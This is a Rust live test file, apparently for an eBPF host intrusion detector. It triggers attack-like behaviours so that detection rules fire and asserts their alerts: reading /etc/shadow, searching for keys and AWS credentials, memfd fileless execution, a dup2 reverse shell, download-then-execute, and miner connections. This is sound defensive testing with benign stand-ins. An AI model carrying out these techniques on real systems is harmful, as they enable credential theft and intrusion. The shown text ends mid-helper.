//! Live detection tests for the detector pack (root only; `cargo test -p palisade-host --test
//! pack_live`). One daemon runs the whole pack (plugins/falco-*, sequences, sensitive-files,
//! shell-spawn, with their shipped sidecars) on the kernel source for the whole test binary.
//!
//! - `pack_detects_live_behaviour` performs, from child processes, every behaviour the pack can
//!   see on this host (reading /etc/shadow with an untrusted binary, a shell under a web server,
//!   /dev/shm and memfd execution, ptrace, key searches, a non-standard ssh port, a dup2 reverse
//!   shell, ...) and asserts each alert by rule id and key fields; every missing alert is reported
//!   by name. docs/rules.md lists which rules are live-tested here and why the others are not.
//! - `benign_activity_stays_below_warning` runs a cargo build, git operations, a pip install in a
//!   venv and an apt-get install + remove, and asserts that no alert of priority warning or above
//!   comes from their process trees (attributed by pid ancestry, so other sessions' activity on
//!   the same machine cannot fail it). With `PALISADE_LIVE_CAPTURE=FILE` it also writes every
//!   event the kernel source delivered during that run as JSON Lines (the whole-pack benchmark's
//!   input; see docs/performance.md).
//!
//! The test process itself is excluded in the kernel (it is "the daemon"), so every behaviour
//! runs in a child: system tools, or this test binary re-executed as a helper (`helper_entry`),
//! sometimes through a symlink whose name is what the rule looks for (`nginx`, `node`, `xmrig`).
//! Without root every test prints a loud `SKIPPED (needs root)` line.
#![cfg(feature = "ebpf")]
#![expect(
    unsafe_code,
    reason = "helper actions call raw syscalls (memfd, ptrace, setresuid, mount, bpf, ...)"
)]
#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test helpers panic on failure, like the tests"
)]

mod support;

use std::collections::{HashMap, HashSet};
use std::ffi::CString;
use std::io::Write;
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use palisade::alert::Priority;
use palisade::ebpf::{EbpfConfig, EbpfSource};
use palisade::event::source::{Delivery, EventSink, EventSource, StopFlag};
use palisade::event::{Event, EventData};
use serde_json::Value;
use support::{Captured, Harness};

const ACTION_ENV: &str = "PALISADE_LIVE_ACTION";
const ARG_ENV: &str = "PALISADE_LIVE_ARG";
/// Every detector plugin of the pack (notify-high is a responder and not part of detection).
const PACK: &[&str] = &[
    "falco-files",
    "falco-process",
    "falco-container",
    "falco-network",
    "falco-system",
    "sequences",
    "sensitive-files",
    "shell-spawn",
];
/// How long the alerts of all behaviours may take to arrive on a loaded 2-core machine.
const ALERT_WAIT: Duration = Duration::from_secs(20);

#[path = "support/root.rs"]
mod root;

/// `true` when the test must be skipped (and says so, loudly).
fn skip(test: &str) -> bool {
    root::skip_unless_root(
        &format!("pack_live::{test}"),
        "runs the pack on the kernel (eBPF) source",
    )
}

/// Sits between the kernel source and the pipeline: remembers every process's parent (for
/// attributing alerts to a process tree) and, when asked, keeps a copy of every event.
struct Tee {
    inner: Arc<dyn EventSink>,
    parents: Mutex<HashMap<u32, u32>>,
    capture: Mutex<Option<Vec<Event>>>,
    /// The most recent events, to show what a process did when its alert is missing.
    recent: Mutex<std::collections::VecDeque<Event>>,
}

const RECENT: usize = 100_000;

impl EventSink for Tee {
    fn submit(&self, event: Event, delivery: Delivery) {
        {
            let mut parents = self.parents.lock().unwrap_or_else(|e| e.into_inner());
            parents.insert(event.process.pid, event.process.ppid);
            if let EventData::Fork { child_pid } = &event.data {
                parents.insert(*child_pid, event.process.pid);
            }
        }
        if let Some(events) = self
            .capture
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .as_mut()
        {
            events.push(event.clone());
        }
        {
            let mut recent = self.recent.lock().unwrap_or_else(|e| e.into_inner());
            if recent.len() >= RECENT {
                recent.pop_front();
            }
            recent.push_back(event.clone());
        }
        self.inner.submit(event, delivery);
    }
}

impl Tee {
    /// What the kernel source reported for `pid` (recent events, at most 20).
    fn events_of(&self, pid: u32) -> Vec<String> {
        let recent = self.recent.lock().unwrap_or_else(|e| e.into_inner());
        recent
            .iter()
            .filter(|e| e.process.pid == pid)
            .take(20)
            .map(|e| {
                format!(
                    "{} comm={} exe={} ppid={} {:?}",
                    e.kind().as_str(),
                    e.process.comm,
                    e.process.exe,
                    e.process.ppid,
                    e.data
                )
            })
            .collect()
    }

    /// True when `pid` is one of `roots` or descends from one.
    fn descends_from(&self, pid: u32, roots: &HashSet<u32>) -> bool {
        let parents = self.parents.lock().unwrap_or_else(|e| e.into_inner());
        let mut cur = pid;
        for _ in 0..64 {
            if roots.contains(&cur) {
                return true;
            }
            match parents.get(&cur) {
                Some(&ppid) if ppid != 0 && ppid != cur => cur = ppid,
                _ => return false,
            }
        }
        false
    }
}

struct Live {
    captured: Captured,
    tee: Arc<Tee>,
}

/// The shared daemon: the pack loaded from the built plugins with their sidecars, the kernel
/// source feeding the pipeline through the [`Tee`] on a background thread that owns both.
fn live() -> &'static Live {
    static LIVE: OnceLock<Live> = OnceLock::new();
    LIVE.get_or_init(|| {
        if let Ok(filter) = std::env::var("PALISADE_LIVE_LOG") {
            let _ = palisade::telemetry::init(palisade::telemetry::LogFormat::Text, &filter);
        }
        let harness = Harness::new("");
        for name in PACK {
            let built = support::built()
                .plugin(name)
                .unwrap_or_else(|| panic!("plugin {name} not built"));
            let sidecar = built
                .sidecar
                .as_ref()
                .map(|p| std::fs::read_to_string(p).unwrap());
            harness.install(&built.wasm, name, sidecar.as_deref());
        }
        harness.load(PACK.len());
        let pipeline = harness.start();
        let captured = harness.captured.clone();
        let mut source = EbpfSource::load(EbpfConfig::default()).expect("load eBPF source as root");
        assert!(
            source.failed().is_empty(),
            "probes failed: {:?}",
            source.failed()
        );
        let tee = Arc::new(Tee {
            inner: pipeline.sink(),
            parents: Mutex::new(HashMap::new()),
            capture: Mutex::new(None),
            recent: Mutex::new(std::collections::VecDeque::new()),
        });
        let sink = Arc::clone(&tee);
        std::thread::spawn(move || {
            // Owns the daemon for the life of the test process.
            let _keep = (harness, pipeline);
            let stop = StopFlag::default();
            source.run(&*sink, &stop).expect("source runs");
        });
        Live { captured, tee }
    })
}

fn priority_of(alert: &Value) -> Priority {
    serde_json::from_value(alert["priority"].clone()).expect("alert priority")
}

fn field(alert: &Value, key: &str) -> String {
    match &alert["fields"][key] {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

fn brief(alert: &Value) -> String {
    format!(
        "{} [{}] {}",
        alert["rule"].as_str().unwrap_or("?"),
        alert["priority"].as_str().unwrap_or("?"),
        alert["message"].as_str().unwrap_or("")
    )
}

/// One expected alert: a rule id plus fields that must equal (or contain) given values.
struct Expect {
    behaviour: String,
    rule: &'static str,
    equal: Vec<(&'static str, String)>,
    contain: Vec<(&'static str, String)>,
}

impl Expect {
    fn new(behaviour: &str, rule: &'static str) -> Self {
        Expect {
            behaviour: behaviour.to_string(),
            rule,
            equal: Vec::new(),
            contain: Vec::new(),
        }
    }
    fn eq(mut self, key: &'static str, value: impl ToString) -> Self {
        self.equal.push((key, value.to_string()));
        self
    }
    fn contains(mut self, key: &'static str, value: impl ToString) -> Self {
        self.contain.push((key, value.to_string()));
        self
    }
    fn matches(&self, alert: &Value) -> bool {
        alert["rule"] == self.rule
            && self.equal.iter().all(|(k, v)| field(alert, k) == *v)
            && self
                .contain
                .iter()
                .all(|(k, v)| field(alert, k).contains(v.as_str()))
    }
    fn describe(&self) -> String {
        let mut parts: Vec<String> = self
            .equal
            .iter()
            .map(|(k, v)| format!("{k}={v:?}"))
            .collect();
        parts.extend(self.contain.iter().map(|(k, v)| format!("{k}~{v:?}")));
        format!("{}: {} {{{}}}", self.behaviour, self.rule, parts.join(", "))
    }
}

/// This test binary re-executed as a helper performing `action`, started through `via` (a
/// symlink naming the process) or the binary itself.
fn helper(action: &str, arg: &str, via: Option<&Path>) -> Command {
    let exe = std::env::current_exe().unwrap();
    let mut cmd = Command::new(via.unwrap_or(&exe));
    cmd.args([
        "--exact",
        "helper_entry",
        "--nocapture",
        "--test-threads=1",
        "-q",
    ])
    .env(ACTION_ENV, action)
    .env(ARG_ENV, arg)
    .stdin(Stdio::null())
    .stdout(Stdio::null());
    cmd
}

/// Says what runs next, on stderr directly (libtest captures `eprintln!`), so a hang is named.
fn step(what: &str) {
    if std::env::var_os("PALISADE_LIVE_VERBOSE").is_some() {
        let _ = std::io::stderr().write_all(format!("pack_live: {what}\n").as_bytes());
    }
}

/// Runs `cmd` to completion (its exit status is not the point: the behaviour is); returns its pid.
fn run(mut cmd: Command) -> u32 {
    step(&format!("run {cmd:?}"));
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start {cmd:?}: {e}"));
    let pid = child.id();
    let _ = child.wait();
    pid
}

fn sh(program: &str, args: &[&str]) -> Command {
    let mut cmd = Command::new(program);
    cmd.args(args);
    cmd
}

fn symlink_to_self(dir: &Path, name: &str) -> PathBuf {
    let link = dir.join(name);
    std::os::unix::fs::symlink(std::env::current_exe().unwrap(), &link).unwrap();
    link
}

/// A non-loopback address of this host (for connections that must not count as loopback).
fn host_address() -> Option<String> {
    let s = UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("192.0.2.1:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then(|| ip.to_string())
}

/// Accepts and drops connections on `listener` in the background (the test process is excluded
/// from events, so the listener side is invisible to the pack).
fn serve_and_drop(listener: TcpListener) {
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            drop(conn);
        }
    });
}

/// Kills a background child when the test ends, however it ends.
struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Removes files the test put in system directories, however the test ends.
struct Cleanup(Vec<PathBuf>);

impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in &self.0 {
            let _ = std::fs::remove_file(p);
        }
    }
}

#[test]
fn pack_detects_live_behaviour() {
    if skip("pack_detects_live_behaviour") {
        return;
    }
    let live = live();
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let d = |name: &str| dir.join(name).display().to_string();
    let me = std::process::id();
    let mut cleanup = Cleanup(Vec::new());
    let mut expect: Vec<Expect> = Vec::new();

    // A server that reads /etc/shadow long after it started: started first, checked last.
    let nginx = symlink_to_self(dir, "nginx");
    let late_reader = KillOnDrop(
        helper("sleep_then_read", "5600,/etc/shadow", Some(&nginx))
            .spawn()
            .unwrap(),
    );
    expect.push(
        Expect::new(
            "nginx reads /etc/shadow 5.6 s after start",
            "read-sensitive-file-trusted-after-startup",
        )
        .eq("path", "/etc/shadow")
        .eq("proc.pid", late_reader.0.id()),
    );

    // Reading /etc/shadow with an untrusted binary (a copied `cat` under a temp name).
    let reader = dir.join("palisade-reader");
    std::fs::copy("/bin/cat", &reader).unwrap();
    let pid = run(sh(reader.to_str().unwrap(), &["/etc/shadow"]));
    expect.push(
        Expect::new(
            "copied cat reads /etc/shadow",
            "read-sensitive-file-untrusted",
        )
        .eq("path", "/etc/shadow")
        .eq("proc.pid", pid),
    );
    expect.push(
        Expect::new("copied cat reads /etc/shadow", "sensitive-file-read")
            .eq("path", "/etc/shadow")
            .eq("proc.pid", pid),
    );

    // /etc/passwd opened for appending (no byte written).
    let pid = run(helper("open", "append,/etc/passwd", None));
    expect.push(
        Expect::new("/etc/passwd opened for append", "sensitive-file-write")
            .eq("path", "/etc/passwd")
            .eq("proc.pid", pid),
    );

    // Directory traversal by a runtime (`node`) whose parent is not a shell.
    let node = symlink_to_self(dir, "node");
    let raw = "/var/tmp/../../etc/hostname";
    let pid = run(helper("open", &format!("read,{raw}"), Some(&node)));
    expect.push(
        Expect::new(
            "node opens /var/tmp/../../etc/hostname",
            "directory-traversal-monitored-file-read",
        )
        .eq("path", "/etc/hostname")
        .eq("path.raw", raw)
        .eq("proc.pid", pid),
    );

    // Log truncation.
    let log = PathBuf::from(format!("/var/log/palisade-live-{me}.log"));
    cleanup.0.push(log.clone());
    let pid = run(helper("open", &format!("trunc,{}", log.display()), None));
    expect.push(
        Expect::new("truncate a file under /var/log", "clear-log-activities")
            .eq("path", log.display())
            .eq("proc.pid", pid),
    );

    // Links over sensitive files.
    let pid = run(sh("ln", &["-s", "/etc/shadow", &d("shadow-soft")]));
    expect.push(
        Expect::new("ln -s /etc/shadow", "create-symlink-over-sensitive-files")
            .eq("target", "/etc/shadow")
            .eq("proc.pid", pid),
    );
    let hard = dir.join("shadow-hard");
    let pid = run(sh("ln", &["/etc/shadow", hard.to_str().unwrap()]));
    let _ = std::fs::remove_file(&hard);
    expect.push(
        Expect::new("ln /etc/shadow", "create-hardlink-over-sensitive-files")
            .eq("target", "/etc/shadow")
            .eq("proc.pid", pid),
    );

    // Persistence: shell start-up file, cron file, history deletion, setuid bit.
    let profile = PathBuf::from(format!("/etc/profile.d/palisade-live-{me}.sh"));
    cleanup.0.push(profile.clone());
    let pid = run(sh("touch", &[profile.to_str().unwrap()]));
    expect.push(
        Expect::new(
            "touch /etc/profile.d/...",
            "modify-shell-configuration-file",
        )
        .eq("target", profile.display())
        .eq("proc.pid", pid),
    );
    let cron = PathBuf::from(format!("/etc/cron.d/palisade-live-{me}"));
    cleanup.0.push(cron.clone());
    let pid = run(sh("touch", &[cron.to_str().unwrap()]));
    expect.push(
        Expect::new("touch /etc/cron.d/...", "schedule-cron-jobs")
            .eq("target", cron.display())
            .eq("proc.pid", pid),
    );
    let history = PathBuf::from(format!("/root/.palisade-live-{me}.bash_history"));
    std::fs::write(&history, b"ls\n").unwrap();
    cleanup.0.push(history.clone());
    let pid = run(sh("rm", &["-f", history.to_str().unwrap()]));
    expect.push(
        Expect::new("rm a bash history file", "delete-or-rename-shell-history")
            .eq("target", history.display())
            .eq("proc.pid", pid),
    );
    let suid = dir.join("suid-me");
    std::fs::write(&suid, b"").unwrap();
    let pid = run(sh("chmod", &["4755", suid.to_str().unwrap()]));
    expect.push(
        Expect::new("chmod 4755", "set-setuid-or-setgid-bit")
            .eq("path", suid.display())
            .eq("proc.pid", pid),
    );

    // A shell spawned by a non-shell parent named like a web server.
    let pid = run(helper("spawn", "/bin/sh,-c,exit 0", Some(&nginx)));
    expect.push(
        Expect::new("nginx spawns sh", "run-shell-untrusted")
            .eq("spawner", "nginx")
            .eq("proc.ppid", pid),
    );
    expect.push(
        Expect::new("nginx spawns sh", "shell-spawned-by-service")
            .eq("parent.name", "nginx")
            .eq("parent.pid", pid),
    );

    // A system user (uid 33, www-data) in an interactive session (`login`).
    let public = tempfile::Builder::new()
        .prefix("palisade-live-pub")
        .tempdir()
        .unwrap();
    std::fs::set_permissions(public.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let login = public.path().join("login");
    std::os::unix::fs::symlink("/bin/true", &login).unwrap();
    let pid = run(helper("exec_as", &format!("33,{}", login.display()), None));
    expect.push(
        Expect::new("uid 33 runs login", "system-user-interactive")
            .eq("user.uid", 33)
            .eq("proc.pid", pid),
    );

    // Searching for private keys and AWS credentials.
    let pid = run(sh("find", &[dir.to_str().unwrap(), "-name", "id_rsa"]));
    expect.push(
        Expect::new("find -name id_rsa", "search-private-keys-or-passwords")
            .eq("pattern", "id_rsa")
            .eq("proc.pid", pid),
    );
    let pid = run(sh(
        "grep",
        &["-rl", "BEGIN RSA PRIVATE", dir.to_str().unwrap()],
    ));
    expect.push(
        Expect::new(
            "grep -r 'BEGIN RSA PRIVATE'",
            "search-private-keys-or-passwords",
        )
        .eq("pattern", "BEGIN RSA PRIVATE")
        .eq("proc.pid", pid),
    );
    let pid = run(sh(
        "grep",
        &["-rl", "aws_secret_access_key", dir.to_str().unwrap()],
    ));
    expect.push(
        Expect::new("grep -r aws_secret_access_key", "find-aws-credentials")
            .eq("pattern", "aws_secret_access_key")
            .eq("proc.pid", pid),
    );

    // Execution from /dev/shm.
    let shm = PathBuf::from(format!("/dev/shm/palisade-live-{me}"));
    std::fs::copy("/bin/true", &shm).unwrap();
    cleanup.0.push(shm.clone());
    let pid = run(sh(shm.to_str().unwrap(), &[]));
    expect.push(
        Expect::new("run a binary in /dev/shm", "execution-from-dev-shm")
            .eq("filename", shm.display())
            .eq("proc.pid", pid),
    );

    // Bulk data removal.
    let victim = dir.join("shred-me");
    std::fs::write(&victim, b"data").unwrap();
    let pid = run(sh("shred", &["-u", victim.to_str().unwrap()]));
    expect.push(
        Expect::new("shred -u", "remove-bulk-data-from-disk")
            .eq("proc.name", "shred")
            .eq("proc.pid", pid),
    );

    // Fileless execution: memfd_create + fexecve.
    let pid = run(helper("memfd_exec", "", None));
    expect.push(
        Expect::new("memfd_create + fexecve", "fileless-execution-memfd")
            .contains("filename", "/dev/fd/")
            .eq("proc.name", "memfd:palisade-")
            .eq("proc.pid", pid),
    );

    // ssh to a non-standard port on a local listener.
    let (listener, port) = [4444u16, 8443, 8080, 88]
        .iter()
        .find_map(|&p| TcpListener::bind(("127.0.0.1", p)).ok().map(|l| (l, p)))
        .expect("a free port among Falco's non-standard ssh ports");
    serve_and_drop(listener);
    let pid = run(sh(
        "ssh",
        &[
            "-p",
            &port.to_string(),
            "-o",
            "BatchMode=yes",
            "-o",
            "ConnectTimeout=5",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "127.0.0.1",
            "true",
        ],
    ));
    expect.push(
        Expect::new(
            "ssh to 127.0.0.1 on a non-standard port",
            "disallowed-ssh-connection-non-standard-port",
        )
        .eq("fd.rport", port)
        .eq("proc.pid", pid),
    );

    // ptrace: attach to a sleeping child; PTRACE_TRACEME.
    let target = KillOnDrop(Command::new("sleep").arg("30").spawn().unwrap());
    let pid = run(helper("ptrace_attach", &target.0.id().to_string(), None));
    expect.push(
        Expect::new("PTRACE_ATTACH to a child", "ptrace-attached-to-process")
            .eq("ptrace.request", "PTRACE_ATTACH")
            .eq("ptrace.target_pid", target.0.id())
            .eq("proc.pid", pid),
    );
    let pid = run(helper("traceme", "", None));
    expect.push(Expect::new("PTRACE_TRACEME", "ptrace-anti-debug-attempt").eq("proc.ppid", pid));

    // BPF_PROG_LOAD (an invalid attr: refused, but the call is what the rule is about).
    let pid = run(helper("bpf_prog_load", "", None));
    expect.push(Expect::new("bpf(BPF_PROG_LOAD)", "bpf-program-load").eq("proc.pid", pid));

    // A non-root process becoming root through its saved uid.
    let pid = run(helper("setuid_root", "", None));
    expect.push(
        Expect::new(
            "uid 1000 calls setuid(0)",
            "setuid-root-by-unexpected-program",
        )
        .eq("user.uid", 1000)
        .eq("proc.pid", pid),
    );

    // Bind-mounting the host root (in a private mount namespace that dies with the helper).
    let mnt = dir.join("mnt");
    std::fs::create_dir(&mnt).unwrap();
    let pid = run(helper("bind_root", mnt.to_str().unwrap(), None));
    expect.push(
        Expect::new("mount --bind / DIR", "sensitive-mount")
            .eq("mount.source", "/")
            .eq("mount.target", mnt.display())
            .eq("proc.pid", pid),
    );

    // Download then execute: connect out (UDP to a TEST-NET address: nothing is sent), write a
    // file under /tmp, run it.
    let payload = dir.join("dl-payload");
    let pid = run(helper(
        "download_exec",
        &format!("203.0.113.7:443,{}", payload.display()),
        None,
    ));
    expect.push(
        Expect::new(
            "connect, write /tmp/..., execute it",
            "download-then-execute",
        )
        .eq("filename", payload.display())
        .eq("proc.ppid", pid),
    );

    // Reverse shell: a socket dup2'ed onto 0/1/2, then an interactive shell. To a non-loopback
    // address of this host when there is one, so the connect-then-shell sequence counts too.
    let addr = host_address();
    let listener = TcpListener::bind((addr.as_deref().unwrap_or("127.0.0.1"), 0)).unwrap();
    let target = listener.local_addr().unwrap().to_string();
    serve_and_drop(listener);
    let pid = run(helper("reverse_shell", &target, None));
    expect.push(
        Expect::new("dup2(socket) + sh -i", "reverse-shell")
            .eq("socket_dup_by", "self")
            .eq("proc.pid", pid),
    );
    if addr.is_some() {
        expect.push(
            Expect::new("connect + sh -i", "reverse-shell-by-sequence")
                .eq("connection", &target)
                .eq("proc.pid", pid),
        );
    }

    // Repeated failed opens of /etc/shadow by one uid (nobody).
    let pid = run(helper("failed_opens", "65534,/etc/shadow,5", None));
    expect.push(
        Expect::new(
            "uid 65534 fails to open /etc/shadow 5 times",
            "credential-file-brute-force",
        )
        .eq("user.uid", 65534)
        .eq("proc.pid", pid),
    );

    // Crypto miners: miner arguments; a binary named xmrig connecting to a stratum port.
    let pid = run(sh(
        "/bin/echo",
        &[
            "--donate-level",
            "1",
            "-o",
            "stratum+tcp://pool.invalid:3333",
        ],
    ));
    expect.push(
        Expect::new("echo with miner arguments", "crypto-miner-execution")
            .contains("indicator", "argument")
            .eq("proc.pid", pid),
    );
    let xmrig = symlink_to_self(dir, "xmrig");
    let pid = run(helper("udp_connect", "203.0.113.9:3333", Some(&xmrig)));
    expect.push(
        Expect::new("xmrig starts", "crypto-miner-execution")
            .eq("indicator", "miner binary xmrig")
            .eq("proc.pid", pid),
    );
    expect.push(
        Expect::new(
            "xmrig connects to a stratum port",
            "crypto-miner-pool-connection",
        )
        .eq("connection", "203.0.113.9:3333")
        .eq("proc.pid", pid),
    );

    // Wait until every expectation is met (or the deadline), then report what is missing.
    let deadline = Instant::now() + ALERT_WAIT;
    let missing = loop {
        let alerts = live.captured.alerts();
        let missing: Vec<&Expect> = expect
            .iter()
            .filter(|e| !alerts.iter().any(|a| e.matches(a)))
            .collect();
        if missing.is_empty() || Instant::now() > deadline {
            break missing
                .iter()
                .map(|e| {
                    let same_rule: Vec<String> = alerts
                        .iter()
                        .filter(|a| a["rule"] == e.rule)
                        .map(|a| format!("      got {}", a["fields"]))
                        .collect();
                    let pid = e
                        .equal
                        .iter()
                        .find(|(k, _)| *k == "proc.pid")
                        .and_then(|(_, v)| v.parse::<u32>().ok());
                    let seen: Vec<String> = pid
                        .map(|pid| live.tee.events_of(pid))
                        .unwrap_or_default()
                        .into_iter()
                        .map(|e| format!("      event {e}"))
                        .collect();
                    format!(
                        "  {}\n{}\n{}",
                        e.describe(),
                        same_rule.join("\n"),
                        seen.join("\n")
                    )
                })
                .collect::<Vec<_>>();
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    drop(late_reader);
    drop(cleanup);
    assert!(
        missing.is_empty(),
        "{} of {} expected alerts missing:\n{}",
        missing.len(),
        expect.len(),
        missing.join("\n")
    );
}

/// Runs `cmd` (a benign workload step) to success; records its pid as a root of benign activity.
fn benign(roots: &mut HashSet<u32>, what: &str, mut cmd: Command) {
    let started = Instant::now();
    let child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{what}: cannot start: {e}"));
    roots.insert(child.id());
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "benign step {what} failed ({}):\n{}\n{}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let line = format!(
        "pack_live: benign {what}: ok in {:.1} s\n",
        started.elapsed().as_secs_f64()
    );
    let _ = std::io::stderr().write_all(line.as_bytes());
}

#[test]
fn benign_activity_stays_below_warning() {
    if skip("benign_activity_stays_below_warning") {
        return;
    }
    let live = live();
    let capture = std::env::var_os("PALISADE_LIVE_CAPTURE").map(PathBuf::from);
    if capture.is_some() {
        *live.tee.capture.lock().unwrap() = Some(Vec::new());
    }
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let mut roots = HashSet::new();

    // cargo build of a tiny crate, offline.
    let krate = dir.join("tiny");
    std::fs::create_dir_all(krate.join("src")).unwrap();
    std::fs::write(
        krate.join("Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .unwrap();
    std::fs::write(
        krate.join("src/main.rs"),
        "fn main() { println!(\"{}\", 6 * 7); }\n",
    )
    .unwrap();
    let mut cargo = Command::new("cargo");
    cargo
        .args(["build", "--offline", "--quiet"])
        .current_dir(&krate)
        .env("CARGO_TARGET_DIR", dir.join("tiny-target"));
    benign(&mut roots, "cargo build", cargo);

    // git: init, add, commit, log in a temp repository.
    let repo = dir.join("repo");
    std::fs::create_dir(&repo).unwrap();
    std::fs::write(repo.join("README"), "hello\n").unwrap();
    let git = |args: &[&str]| {
        let mut cmd = Command::new("git");
        cmd.args([
            "-c",
            "user.name=Palisade Test",
            "-c",
            "user.email=test@example.invalid",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .current_dir(&repo)
        .env("GIT_PAGER", "cat");
        cmd
    };
    benign(&mut roots, "git init", git(&["init", "-q"]));
    benign(&mut roots, "git add", git(&["add", "README"]));
    benign(
        &mut roots,
        "git commit",
        git(&["commit", "-q", "-m", "first"]),
    );
    benign(&mut roots, "git log", git(&["log", "--oneline"]));

    // pip installing a small package into a venv (PyPI is reachable from CI).
    let venv = dir.join("venv");
    let mut mkvenv = Command::new("/usr/bin/python3");
    mkvenv.args(["-m", "venv", venv.to_str().unwrap()]);
    benign(&mut roots, "python3 -m venv", mkvenv);
    let mut pip = Command::new(venv.join("bin/pip"));
    pip.args([
        "install",
        "--quiet",
        "--no-cache-dir",
        "--disable-pip-version-check",
        "six",
    ]);
    benign(&mut roots, "pip install six", pip);

    // apt-get install and remove of a small package.
    let apt = |args: &[&str]| {
        let mut cmd = Command::new("apt-get");
        cmd.args(["-y", "-q", "-o", "Dpkg::Use-Pty=0"])
            .args(args)
            .env("DEBIAN_FRONTEND", "noninteractive");
        cmd
    };
    benign(
        &mut roots,
        "apt-get install hello",
        apt(&["install", "--no-install-recommends", "hello"]),
    );
    benign(
        &mut roots,
        "apt-get remove hello",
        apt(&["remove", "hello"]),
    );

    // Let the last events drain through the pipeline.
    std::thread::sleep(Duration::from_secs(3));
    let alerts = live.captured.alerts();
    let pid_of = |a: &Value| field(a, "proc.pid").parse::<u32>().unwrap_or(0);
    let ours: Vec<&Value> = alerts
        .iter()
        .filter(|a| live.tee.descends_from(pid_of(a), &roots))
        .collect();
    let loud: Vec<String> = ours
        .iter()
        .filter(|a| priority_of(a).at_least(Priority::Warning))
        .map(|a| brief(a))
        .collect();
    let quiet: Vec<String> = ours
        .iter()
        .filter(|a| !priority_of(a).at_least(Priority::Warning))
        .map(|a| brief(a))
        .collect();
    let line = format!(
        "pack_live: benign activity raised {} alert(s) below warning{}\n",
        quiet.len(),
        if quiet.is_empty() {
            String::new()
        } else {
            format!(":\n  {}", quiet.join("\n  "))
        }
    );
    let _ = std::io::stderr().write_all(line.as_bytes());

    if let Some(path) = capture {
        let events = live.tee.capture.lock().unwrap().take().unwrap_or_default();
        let mut out = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
        for e in &events {
            serde_json::to_writer(&mut out, e).unwrap();
            out.write_all(b"\n").unwrap();
        }
        out.flush().unwrap();
        let line = format!(
            "pack_live: wrote {} events of the benign workload to {}\n",
            events.len(),
            path.display()
        );
        let _ = std::io::stderr().write_all(line.as_bytes());
    }

    assert!(
        loud.is_empty(),
        "benign activity raised {} alert(s) at warning or above:\n  {}",
        loud.len(),
        loud.join("\n  ")
    );
}

fn cstr(s: &str) -> CString {
    CString::new(s).unwrap()
}

/// Entry point of the helper process; a no-op in a normal test run.
#[test]
fn helper_entry() {
    let Ok(action) = std::env::var(ACTION_ENV) else {
        return;
    };
    // libtest runs this in a thread named after the test, and the kernel reports a thread's
    // own comm: take the process's name (`nginx`, `node`, ...) as a single-threaded program has.
    if let Ok(comm) = std::fs::read_to_string("/proc/self/comm") {
        let name = cstr(comm.trim_end());
        // SAFETY: PR_SET_NAME reads a NUL-terminated string of at most 16 bytes.
        unsafe { libc::prctl(libc::PR_SET_NAME, name.as_ptr()) };
    }
    let arg = std::env::var(ARG_ENV).unwrap_or_default();
    let mut args = arg.split(',');
    let mut next = || args.next().unwrap().to_string();
    // SAFETY (all blocks below): plain syscalls with valid, NUL-terminated arguments.
    match action.as_str() {
        "open" => {
            // `read|append|trunc,PATH`: one open of PATH, nothing read or written.
            let (how, path) = (next(), next());
            let mut opts = std::fs::OpenOptions::new();
            match how.as_str() {
                "read" => opts.read(true),
                "append" => opts.append(true),
                "trunc" => opts.write(true).create(true).truncate(true),
                other => panic!("open mode {other}"),
            };
            let _ = opts.open(&path);
        }
        "sleep_then_read" => {
            let (ms, path) = (next(), next());
            std::thread::sleep(Duration::from_millis(ms.parse().unwrap()));
            let _ = std::fs::File::open(path);
        }
        "spawn" => {
            let parts: Vec<String> = arg.split(',').map(str::to_string).collect();
            let _ = Command::new(&parts[0]).args(&parts[1..]).status();
        }
        "exec_as" => unsafe {
            let (uid, path) = (next(), next());
            let uid: u32 = uid.parse().unwrap();
            assert_eq!(libc::setgroups(0, std::ptr::null()), 0);
            assert_eq!(libc::setgid(uid), 0);
            assert_eq!(libc::setuid(uid), 0);
            let p = cstr(&path);
            let argv = [p.as_ptr(), std::ptr::null()];
            libc::execv(p.as_ptr(), argv.as_ptr());
            panic!("execv {path}: {}", std::io::Error::last_os_error());
        },
        "memfd_exec" => unsafe {
            let name = cstr("palisade-fileless");
            let fd = libc::memfd_create(name.as_ptr(), 0);
            assert!(fd >= 0);
            let image = std::fs::read("/bin/true").unwrap();
            assert_eq!(
                libc::write(fd, image.as_ptr().cast(), image.len()),
                image.len() as isize
            );
            let a0 = cstr("fileless");
            let argv = [a0.as_ptr(), std::ptr::null()];
            let envp = [std::ptr::null()];
            libc::fexecve(fd, argv.as_ptr(), envp.as_ptr());
            panic!("fexecve failed: {}", std::io::Error::last_os_error());
        },
        "ptrace_attach" => unsafe {
            // Attach, wait for the stop, detach: a tracer that exits with a stopped tracee can
            // leave its own exit hanging, and the test waits for it.
